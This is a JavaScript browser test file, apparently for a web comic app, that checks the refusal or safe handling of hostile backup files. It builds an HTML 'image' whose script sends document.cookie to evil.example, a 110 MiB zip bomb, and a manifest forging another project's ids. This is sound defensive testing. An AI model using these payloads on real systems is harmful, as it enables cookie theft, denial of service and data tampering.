// Hostile restores through the UI (issue 18, Tests): the starting state is made like a person
// would (panels dropped on the Strip, a second project made with "New project", both exported
// with "Export backup"); then three hostile backups built from those files are restored with the
// backup picker:
//   (a) an "image" that is HTML                    → refused, English message;
//   (b) a zip bomb (a named image inflating 1000:1 to 110 MiB, honest header) → refused before
//       inflating, Korean message (the language switched in the header);
//   (c) colliding ids: project 1's own backup while project 1 exists, and a backup with a new
//       project id whose panel / blob / hint ids are project 2's → restored under fresh ids.
// After each, every record that was stored before is byte-identical (IndexedDB is read in the
// page only for this check) and what a person sees (panels, project list) is what it was.
import fs from 'node:fs';
import path from 'node:path';
import crypto from 'node:crypto';
import { deflateSync, strToU8, unzipSync, zipSync } from 'fflate';

export const timeout = 300_000;

const stripView = (page) => page.locator('toon-strip-view');
const sha = (b) => crypto.createHash('sha256').update(b).digest('hex');

function transfer(page, files) {
  return page.evaluateHandle(
    (list) => {
      const dt = new DataTransfer();
      for (const f of list) dt.items.add(new File([new Uint8Array(f.bytes)], f.name, { type: 'image/png' }));
      return dt;
    },
    files.map((f) => ({ name: f.name, bytes: [...f.bytes] })),
  );
}

/** Every stored record, binary fields as SHA-256, keyed by store and key (for the check only). */
function storeRecords() {
  return (async () => {
    const db = await new Promise((res, rej) => {
      const r = indexedDB.open('toonsmith');
      r.onsuccess = () => res(r.result);
      r.onerror = () => rej(r.error);
    });
    const hex = async (b) =>
      [...new Uint8Array(await crypto.subtle.digest('SHA-256', b))]
        .map((x) => x.toString(16).padStart(2, '0'))
        .join('');
    const out = {};
    const stores = ['projects', 'panels', 'blobs', 'hints', 'palettes', 'references', 'vectorChunks', 'settings'];
    for (const s of [...stores, 'stories', 'storyboards', 'characters']) {
      const recs = await new Promise((res) => {
        const r = db.transaction(s).objectStore(s).getAll();
        r.onsuccess = () => res(r.result);
      });
      for (const r of recs) {
        const copy = { ...r };
        for (const [k, v] of Object.entries(copy)) if (v instanceof ArrayBuffer) copy[k] = await hex(v);
        out[`${s}/${r.id ?? r.key ?? r.projectId}`] = JSON.stringify(copy);
      }
    }
    db.close();
    return out;
  })();
}

export default async function (ctx) {
  const { assert, log, fixturesDir } = ctx;
  const shots = path.join('test-results', 'restore-hostile');
  fs.mkdirSync(shots, { recursive: true });
  const sprite = (f) => ({ name: f, bytes: fs.readFileSync(path.join(fixturesDir, 'dataset', 'sprites', f)) });
  const context = await ctx.newContext({ locale: 'en-US', acceptDownloads: true });
  const page = await context.newPage();
  const view = stripView(page);
  const panelItems = view.locator('[data-testid=panel-item]');
  const toast = (role, text) => page.locator(`toon-notifier [role=${role}]`, { hasText: text });

  // Starting state, through the UI: project 1 with two panels, project 2 with one.
  await page.goto('/');
  await view.locator('[data-testid=strip-empty]').waitFor();
  await view
    .locator('[data-testid=drop-zone]')
    .dispatchEvent('drop', { dataTransfer: await transfer(page, [sprite('1F3E0.png'), sprite('1F333.png')]) });
  await panelItems.nth(1).waitFor();
  const exportBackup = async () => {
    const [dl] = await Promise.all([
      page.waitForEvent('download'),
      view.locator('[data-testid=export-backup]').click(),
    ]);
    return fs.readFileSync(await dl.path());
  };
  const backup1 = await exportBackup();
  await view.locator('[data-testid=project-new]').click();
  await view.locator('[data-testid=strip-empty]').waitFor();
  await view
    .locator('[data-testid=drop-zone]')
    .dispatchEvent('drop', { dataTransfer: await transfer(page, [sprite('1F408.png')]) });
  await panelItems.first().waitFor();
  const backup2 = await exportBackup();
  const projectOptions = () => view.locator('[data-testid=project-select] option').allInnerTexts();
  assert.deepEqual((await projectOptions()).sort(), ['My first strip', 'New strip']);

  const restore = (name, buffer) =>
    view
      .locator('[data-testid=backup-input]')
      .setInputFiles({ name, mimeType: 'application/zip', buffer: Buffer.from(buffer) });
  /** Every record stored before is still there, byte for byte (the current-project setting aside). */
  const assertKept = async (before, what) => {
    const after = await page.evaluate(storeRecords);
    for (const [k, v] of Object.entries(before)) {
      if (k === 'settings/currentProjectId') continue;
      assert.equal(after[k], v, `${what}: ${k} unchanged`);
    }
    return after;
  };

  // (a) An HTML "image" (typed text/html, hash and size made to match): refused, nothing changes.
  {
    const files = unzipSync(backup1);
    const m = JSON.parse(Buffer.from(files['manifest.json']).toString());
    const html = strToU8('<!doctype html><script>fetch("https://evil.example/?" + document.cookie)</script>');
    files[m.blobs[0].path] = html;
    Object.assign(m.blobs[0], { type: 'text/html', size: html.length, sha256: sha(html) });
    files['manifest.json'] = strToU8(JSON.stringify(m));
    const before = await page.evaluate(storeRecords);
    await restore('html-blob.toonsmith.zip', zipSync(files, { level: 0 }));
    const alert = toast(
      'alert',
      'html-blob.toonsmith.zip: this backup holds a file that is not a valid PNG, JPEG or WebP image',
    );
    await alert.waitFor({ timeout: 60_000 });
    assert.ok(await alert.isVisible(), 'the refusal is on screen');
    await page.screenshot({ path: path.join(shots, 'a-html-refused.png'), fullPage: true });
    const after = await assertKept(before, 'HTML blob');
    assert.equal(Object.keys(after).length, Object.keys(before).length, 'HTML blob: no record added');
    assert.equal(await panelItems.count(), 1, 'the open project still shows its one panel');
  }

  // (b) A zip bomb, in Korean: the first image is 110 MiB of zeros deflated to ~110 KiB, its
  // header honest — over the 100 MB per-image cap, so nothing may be inflated.
  await page.locator('toon-app [data-testid=locale]').selectOption('ko');
  await view.locator('[data-testid=export-backup]', { hasText: '백업' }).waitFor();
  {
    const files = unzipSync(backup1);
    const m = JSON.parse(Buffer.from(files['manifest.json']).toString());
    const zeros = new Uint8Array(110 * 1024 * 1024);
    const entries = Object.entries(files).filter(([n]) => n !== m.blobs[0].path && n !== 'manifest.json');
    const bomb = zipSync(
      Object.fromEntries([
        [
          'manifest.json',
          strToU8(
            JSON.stringify({
              ...m,
              blobs: m.blobs.map((b, i) => (i === 0 ? { ...b, size: zeros.length, sha256: sha(zeros) } : b)),
            }),
          ),
        ],
        ...entries,
        [m.blobs[0].path, [zeros, { level: 9 }]],
      ]),
      { level: 0 },
    );
    log(
      `bomb: ${(bomb.length / 1024).toFixed(0)} KiB on disk, ${(zeros.length / 2 ** 20).toFixed(0)} MiB declared for ${m.blobs[0].path}`,
    );
    assert.ok(bomb.length < 1024 * 1024, 'the bomb file is small');
    const before = await page.evaluate(storeRecords);
    await restore('bomb.toonsmith.zip', bomb);
    const alert = toast('alert', 'bomb.toonsmith.zip: 백업이 Toonsmith가 복원할 수 있는 크기');
    await alert.waitFor({ timeout: 60_000 });
    assert.match(await alert.innerText(), /아무것도 바뀌지 않았습니다/);
    await page.screenshot({ path: path.join(shots, 'b-bomb-refused-ko.png'), fullPage: true });
    const after = await assertKept(before, 'zip bomb');
    assert.equal(Object.keys(after).length, Object.keys(before).length, 'zip bomb: no record added');
    void deflateSync; // (fflate's zipSync deflates the bomb entry itself)
  }
  await page.locator('toon-app [data-testid=locale]').selectOption('en');
  await view.locator('[data-testid=export-backup]', { hasText: 'Export backup' }).waitFor();

  // (c1) Project 1's own backup while project 1 exists: every id collides → restored as a copy.
  {
    const before = await page.evaluate(storeRecords);
    await restore('mine-again.toonsmith.zip', backup1);
    await toast('status', 'Backup imported: My first strip (2).').waitFor({ timeout: 60_000 });
    await panelItems.nth(1).waitFor();
    const after = await assertKept(before, 'colliding restore');
    const added = Object.keys(after).filter((k) => !(k in before));
    assert.deepEqual(
      [...new Set(added.map((k) => k.split('/')[0]))].sort(),
      ['blobs', 'panels', 'projects'],
      `a copy under fresh ids (added: ${added.join(', ')})`,
    );
    assert.equal(added.filter((k) => k.startsWith('panels/')).length, 2);
  }

  // (c2) The attack: a NEW project id, but panel and blob ids of project 2 (taken from
  // project 2's own backup) — project 2 must keep its panel and its image bytes.
  {
    const files = unzipSync(backup1);
    const m = JSON.parse(Buffer.from(files['manifest.json']).toString());
    const victim = JSON.parse(Buffer.from(unzipSync(backup2)['manifest.json']).toString());
    const newProject = 'attacker-project';
    const panelId = victim.panels[0].id;
    const blobId = victim.panels[0].originalBlobId;
    const p0 = m.panels[0];
    const oldBlob = m.blobs.find((b) => b.id === p0.originalBlobId);
    m.project = {
      ...m.project,
      id: newProject,
      name: 'Attacker',
      panelIds: m.project.panelIds.map((id) => (id === p0.id ? panelId : id)),
    };
    for (const p of m.panels) p.projectId = newProject;
    files[`blobs/${blobId}`] = files[oldBlob.path];
    delete files[oldBlob.path];
    Object.assign(oldBlob, { id: blobId, path: `blobs/${blobId}` });
    Object.assign(p0, { id: panelId, originalBlobId: blobId });
    for (const h of m.hints)
      if (h.panelId === victim.panels[0].id || h.id === p0.id) Object.assign(h, { id: panelId, panelId });
    for (const p of m.palettes ?? []) p.projectId = newProject;
    files['manifest.json'] = strToU8(JSON.stringify(m));
    const before = await page.evaluate(storeRecords);
    assert.ok(before[`panels/${panelId}`] && before[`blobs/${blobId}`], 'the ids really collide with project 2');
    await restore('attacker.toonsmith.zip', zipSync(files, { level: 0 }));
    await toast('status', 'Backup imported: Attacker.').waitFor({ timeout: 60_000 });
    await panelItems.nth(1).waitFor();
    const after = await assertKept(before, 'attacker restore');
    assert.ok(!(`projects/${newProject}` in after), 'the backup’s project id is not used');
    await page.screenshot({ path: path.join(shots, 'c-collisions-restored.png'), fullPage: true });
  }

  // What a person sees: four projects; project 2 ("New strip") still shows its one panel.
  const names = await projectOptions();
  log('projects:', names.join(' | '));
  assert.deepEqual([...names].sort(), ['Attacker', 'My first strip', 'My first strip (2)', 'New strip']);
  await view.locator('[data-testid=project-select]').selectOption({ label: 'New strip' });
  await page.waitForFunction(() => {
    const v = document.querySelector('toon-app')?.shadowRoot?.querySelector('toon-strip-view');
    return v?.shadowRoot?.querySelector('[data-testid=project-name]')?.value === 'New strip';
  });
  await panelItems.nth(1).waitFor({ state: 'detached' });
  await panelItems.first().waitFor();
  assert.equal(await panelItems.count(), 1, 'project 2 keeps its one panel');
  await page.screenshot({ path: path.join(shots, 'c-victim-intact.png'), fullPage: true });
}
